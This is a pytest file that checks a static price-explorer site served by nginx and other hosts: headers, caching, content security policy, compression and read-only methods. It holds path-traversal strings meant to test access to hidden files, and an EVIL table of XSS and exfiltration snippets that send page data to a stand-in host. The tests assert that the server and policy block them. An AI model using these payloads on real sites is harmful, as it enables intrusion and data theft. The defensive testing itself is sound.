"""The static edition on hosts: nginx as in ``deploy/static``, one that reads `_headers`, one that knows nothing."""

import functools
import gzip
import http.server
import re
import shutil
import subprocess
import threading

import pytest

from mktlib.edition import site as hosting
from tests.browser.page import visiting
from tests.browser.serving import ROOT
from tests.deploy.site import Reader, wait_for
from tests.deploy.static_site import CONF, PREFIX, standing

PAGE = "11_price_tag.html"
ELSEWHERE = "https://elsewhere.example.org/"
PYTHON = "() => ['ready', 'absent'].includes(mktlibSite.pythons[0].state)"
YEAR = "public, max-age=31536000, immutable"
KINDS = {
    ".html": "text/html; charset=utf-8",
    ".css": "text/css; charset=utf-8",
    ".js": "text/javascript; charset=utf-8",
    ".json": "application/json; charset=utf-8",
    ".txt": "text/plain; charset=utf-8",
    ".gz": "application/gzip",
    ".png": "image/png",
    ".woff2": "font/woff2",
    "LICENSE-FONTS": "application/octet-stream",
}
HIDDEN = [
    "_headers",
    ".built.json",
    ".nojekyll",
    ".git/config",
    "ui/",
    "ui",
    "python/",
    "nowhere.html",
    "../outside.txt",
    "%2e%2e/outside.txt",
    "ui/..%2f..%2foutside.txt",
    "ui/../../outside.txt",
    "..%5coutside.txt",
    "%252e%252e/outside.txt",
    "/../outside.txt",
    "index.html%00.png",
]


@pytest.fixture(scope="session")
def host(built, tmp_path_factory):
    """A host's folder, with the site in it."""
    folder = tmp_path_factory.mktemp("www")
    shutil.copytree(built, folder / "prices")
    (folder / "outside.txt").write_text("private", encoding="utf-8")
    return folder


@pytest.fixture(scope="session")
def files(host):
    """What the site publishes, by address."""
    here = host / "prices"
    names = (path.relative_to(here).as_posix() for path in here.rglob("*") if path.is_file())
    return sorted(name for name in names if name not in HIDDEN)


@pytest.fixture(scope="session")
def python(host):
    """The page's own Python; it may be out of reach."""
    if not (host / "prices/python/worker.js").is_file():
        pytest.skip("Pyodide could not be fetched from the package index")


@pytest.fixture(scope="session")
def here(tmp_path_factory):
    """Where nginx keeps its files."""
    return tmp_path_factory.mktemp("static-nginx")


@pytest.fixture(scope="session")
def url(nginx_program, host, here):
    """The site's address on nginx."""
    with standing(nginx_program, here, host) as url:
        yield url


@pytest.fixture
def ask(url):
    """One request below the prefix, the address as it is written."""
    return lambda path, **options: Reader(url.removesuffix(PREFIX)).ask(PREFIX + path, **options)


def expected(name):
    """Which headers a file has by the settings: policies that are said twice hold both, nginx says the narrower one."""
    said = {}
    for where, headers in hosting.headers().items():
        said |= headers if name.startswith(where.removesuffix("*")) else {}
    return said


@pytest.fixture
def plain():
    """Serve a folder as ``python -m http.server`` does, with further headers for each address; yields its address."""
    servers = []

    def serve(folder, headers=lambda _path: {}):
        class Handler(http.server.SimpleHTTPRequestHandler):
            def log_message(self, *_):
                pass

            def end_headers(self):
                for name, value in headers(self.path):
                    self.send_header(name, value)
                super().end_headers()

        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Handler, directory=folder))
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        return f"http://127.0.0.1:{server.server_port}"

    yield serve
    for server in servers:
        server.shutdown()
        server.server_close()


def test_every_file_comes_whole_with_its_type_and_every_header_once(host, files, ask):
    assert {PAGE, "index.html", "404.html", "llms.txt", "ui/site.js", "ui/explorer.css"} <= set(files)
    for name in files:
        answer = ask(name)
        assert answer.status == 200, name
        assert answer.body == (host / "prices" / name).read_bytes(), name
        (kind,) = (kind for ending, kind in KINDS.items() if name.endswith(ending))
        assert answer.headers["Content-Type"] == kind, name
        for header, value in expected(name).items():
            assert answer.headers.get_all(header) == [value], (name, header)
        assert answer.headers["Cache-Control"] == "no-cache"
        assert answer.headers["Server"] == "nginx", "no version"
        assert answer.headers["Set-Cookie"] is None
        assert "Content-Encoding" not in answer.headers


def test_other_sites_may_take_explorers_and_no_pages(ask):
    for name in (PAGE, "index.html", "llms.txt", "nowhere"):
        answer = ask(name)
        assert "Access-Control-Allow-Origin" not in answer.headers
        assert "Cross-Origin-Resource-Policy" not in answer.headers
        assert "frame-ancestors *" in answer.headers["Content-Security-Policy"]
        assert "X-Frame-Options" not in answer.headers
    assert ask("ui/site.js", Origin="https://lms.example.org").headers["Access-Control-Allow-Origin"] == "*"


def test_text_is_compressed_and_what_is_compressed_already_is_sent_as_it_is(host, files, ask):
    for name in files:
        content = (host / "prices" / name).read_bytes()
        answer = ask(name, Accept_Encoding="gzip, deflate, br")
        if name.endswith((".html", ".css", ".js", ".json", ".txt")) and len(content) > 1000:
            assert answer.headers["Content-Encoding"] == "gzip", name
            assert answer.headers["Vary"] == "Accept-Encoding"
            assert gzip.decompress(answer.body) == content
        elif not name.endswith((".html", ".css", ".js", ".json", ".txt")):
            assert "Content-Encoding" not in answer.headers, name
            assert answer.body == content


@pytest.mark.usefixtures("python")
def test_the_parts_of_python_stay_as_they_are(host, files, ask):
    packed = [name for name in files if name.endswith(".gz")]
    assert len(packed) >= 5
    for name in packed:
        for accepted in ("gzip", "identity"):
            answer = ask(name, Accept_Encoding=accepted)
            assert answer.headers["Content-Type"] == "application/gzip"
            assert "Content-Encoding" not in answer.headers
            assert answer.body[:2] == b"\x1f\x8b"
            assert answer.body == (host / "prices" / name).read_bytes()


def test_what_has_its_hash_in_its_address_is_kept_and_of_all_else_is_asked_again(host, ask):
    page = (host / "prices" / PAGE).read_text(encoding="utf-8")
    kept = set(re.findall(r'"((?:ui|records)/[^"?]+\?v=[0-9a-f]+)"', page))
    assert {one.split("/")[0] for one in kept} == {"ui", "records"}
    for name in kept:
        assert ask(name).headers["Cache-Control"] == YEAR
    for name in (
        PAGE,
        f"{PAGE}?five_minutes.guess=0",
        "ui/site.js",
        f"{PAGE}?v=",
        "ui/site.js?v=latest",
        "nowhere?v=0123456789ab",
    ):
        assert ask(name).headers["Cache-Control"] == "no-cache", name
    tag = ask(PAGE).headers["ETag"]
    again = ask(PAGE, If_None_Match=tag)
    assert (again.status, again.body) == (304, b"")


@pytest.mark.parametrize("path", HIDDEN)
def test_there_is_no_listing_no_hidden_file_and_no_way_out(ask, path):
    answer = ask(path)
    assert b"private" not in answer.body
    assert b"Index of" not in answer.body
    assert answer.status in ((301, 404) if path in ("ui", "python") else (400, 404))


def test_who_is_lost_is_led_to_the_gallery_and_nothing_beside_the_site_answers(url, ask):
    lost = ask("nowhere.html")
    assert lost.status == 404
    assert "No offers at this address" in lost.text
    beside = Reader(url.removesuffix(PREFIX))
    assert beside.ask(PREFIX.rstrip("/")).headers["Location"].endswith(PREFIX)
    assert [beside.ask(path).status for path in ("/", "/index.html", "/outside.txt")] == [404] * 3


def test_the_line_for_the_top_of_a_host_makes_the_same_site_there(nginx_program, host, files, tmp_path):
    (command,) = re.findall(
        r"^sed -i '.*mktlib-site.conf$", (ROOT / "deploy/README.md").read_text("utf-8"), re.MULTILINE
    )

    def change(file):
        subprocess.run(
            command.replace("/etc/nginx/sites-available/mktlib-site.conf", str(file)), shell=True, check=True
        )

    with standing(nginx_program, tmp_path, host, change) as url:
        reader = Reader(url.removesuffix(PREFIX))
        for name in files:
            answer = reader.ask(f"/{name}")
            assert answer.body == (host / "prices" / name).read_bytes()
            for header, value in expected(name).items():
                assert answer.headers.get_all(header) == [value], (name, header)
        assert b"</html>" in reader.ask("/").body
        for path in ("/outside.txt", "/prices/index.html", "/_headers", "/.built.json", "/ui/"):
            assert reader.ask(path).status == 404
        assert "No offers at this address" in reader.ask("/nowhere").text


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS"])
def test_it_only_reads(ask, method):
    assert ask(PAGE, method=method).status == 405
    head = ask(PAGE, method="HEAD")
    assert (head.status, head.body) == (200, b"")


def test_the_log_holds_no_values_and_no_browser(ask, here):
    ask(f"{PAGE}?least.sum=secret", Referer="https://secret.example.org/", User_Agent="secret")
    log = (here / "mktlib-site.log").read_text
    wait_for(log, f"GET {PREFIX}{PAGE}")
    assert "secret" not in log()


def test_the_file_for_hosts_that_read_one_says_the_same_as_nginx(host):
    said, where = {}, None
    for line in (host / "prices" / "_headers").read_text(encoding="utf-8").splitlines():
        if line.startswith("/"):
            where = line.removeprefix("/")
            said[where] = {}
        elif line:
            assert line.startswith("  ")
            name, _, value = line.strip().partition(": ")
            assert name not in said[where]
            said[where][name] = value
    assert said == hosting.headers()
    conf = CONF.read_text(encoding="utf-8")
    for headers in said.values():
        for name, value in headers.items():
            assert name in conf
            assert value in conf


def of_the_file(path):
    """The headers that a host sends which reads `_headers`: all that fit, one after the other."""
    name = path.split("?")[0].removeprefix(PREFIX)
    fit = (of for where, of in hosting.headers().items() if name.startswith(where.removesuffix("*")))
    called = [("Content-Encoding", "gzip")] if name.endswith(".gz") else []  # as some hosts do, whatever they are told
    return [pair for of in fit for pair in of.items()] + called


def answered(visit, address):
    """Open the page, move its first slider, and see that its record answers; return the explorer's name."""
    visit.open(address)
    violations = (
        "addEventListener('securitypolicyviolation', e => (globalThis.violated ??= []).push(e.violatedDirective))"
    )
    visit.page.evaluate(violations)
    for one in visit.explorers():
        slider = next((control for control in one.controls() if control.kind == "range"), None)
        if slider:
            before = one.look()
            now = one.press(slider, "ArrowRight")
            assert now.words != before.words
            assert not now.stale
            assert not now.problem
            return one
    raise AssertionError("no slider on the page")


@pytest.mark.browser
@pytest.mark.parametrize("of", ["nginx", "plain", "_headers"])
def test_a_page_answers_by_its_record_and_then_by_its_python_and_breaks_no_policy(of, request, chromium, host):
    if of == "nginx":
        address = request.getfixturevalue("url") + PAGE
    else:
        serve = request.getfixturevalue("plain")
        address = serve(host, of_the_file if of == "_headers" else lambda _path: []) + PREFIX + PAGE
    asked = []
    with visiting(chromium) as visit:
        visit.context.route(f"{ELSEWHERE}**", lambda route: (asked.append(1), route.fulfill(body="")))
        answered(visit, address)
        assert visit.page.evaluate("document.fonts.ready.then(all => [...all].every(one => one.status == 'loaded'))")
        if of != "plain" and (host / "prices/python/worker.js").is_file():
            visit.page.evaluate("mktlibSite.pythons[0].start()")
            visit.page.wait_for_function(PYTHON, timeout=60_000)
            assert visit.page.evaluate("mktlibSite.pythons[0].state") == "ready"
            (worker,) = visit.page.workers  # goes by the policy that its own file came with
            assert "Failed to fetch" in worker.evaluate(f"fetch({ELSEWHERE!r}).catch(String)")
            assert "NetworkError" in worker.evaluate(
                f"(() => {{ try {{ importScripts({ELSEWHERE!r}) }} catch (error) {{ return String(error) }} }})()"
            )
            assert asked == []
        assert visit.page.evaluate("globalThis.violated ?? []") == []
        assert visit.trouble == []


@pytest.mark.browser
@pytest.mark.usefixtures("python")
@pytest.mark.parametrize("policy", ["script-src 'self' blob:", "script-src 'none'", "connect-src 'none'"])
def test_where_a_host_forbids_python_its_page_keeps_to_the_record(chromium, host, plain, policy):
    said = [("Content-Security-Policy", policy)]
    with visiting(chromium) as visit:
        answered(visit, plain(host, lambda path: said if "/python/" in path else []) + PREFIX + PAGE)
        visit.page.evaluate("mktlibSite.pythons[0].start()")
        visit.page.wait_for_function(PYTHON)
        assert visit.page.evaluate("mktlibSite.pythons[0].state") == "absent"


@pytest.mark.browser
def test_a_page_of_another_site_may_take_an_explorer(chromium, url, plain, tmp_path):
    lesson = f'<link rel="icon" href="data:,"><script type="module" src="{url}embed.js"></script>'
    lesson += '<price-explorer page="11_price_tag" name="one_trade"></price-explorer>'
    (tmp_path / "lesson.html").write_text(lesson, encoding="utf-8")
    with visiting(chromium) as visit:
        visit.page.goto(f"{plain(tmp_path)}/lesson.html")
        visit.page.locator(".mk-explorer[data-frame]").wait_for()
        assert visit.page.evaluate("document.fonts.ready.then(all => [...all].every(one => one.status == 'loaded'))")
        assert visit.trouble == []


@pytest.mark.browser
def test_from_a_memory_stick_the_policy_holds_and_the_record_answers(chromium, host):
    with visiting(chromium) as visit:
        answered(visit, f"file://{host}{PREFIX}{PAGE}")
        assert visit.page.evaluate("globalThis.violated ?? []") == []
        assert visit.trouble == []


EVIL = {
    "a script": "document.body.append(Object.assign(document.createElement('script'), { text: 'globalThis.ran = 1' }))",
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"globalThis.ran = 1\">')",
    "text as code": "setTimeout('globalThis.ran = 1')",
    "a question": "fetch(`${there}?${document.title}`).catch(() => {})",
    "a picture": "new Image().src = there",
    "a beacon": "navigator.sendBeacon(there, 'values')",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: there }))",
    "a base": "document.head.prepend(Object.assign(document.createElement('base'), { href: there }))",
}


@pytest.mark.browser
def test_what_gets_into_a_page_can_neither_run_nor_tell_anybody(chromium, host, plain):
    """A plain host sends no policy: the page's own one holds."""
    asked = []
    with visiting(chromium) as visit:
        visit.page.route(f"{ELSEWHERE}**", lambda route: (asked.append(1), route.abort()))
        visit.open(plain(host) + PREFIX + PAGE)
        told = "addEventListener('securitypolicyviolation', event => done(event.violatedDirective), { once: true })"
        for name, does in EVIL.items():
            broken = visit.page.evaluate(
                f"there => new Promise(done => {{ {told}; {does}; setTimeout(done, 3000, '') }})", ELSEWHERE
            )
            assert broken, name
        assert visit.page.evaluate("globalThis.ran") is None
        assert visit.page.evaluate("document.baseURI").startswith("http://127.0.0.1")
        assert asked == []
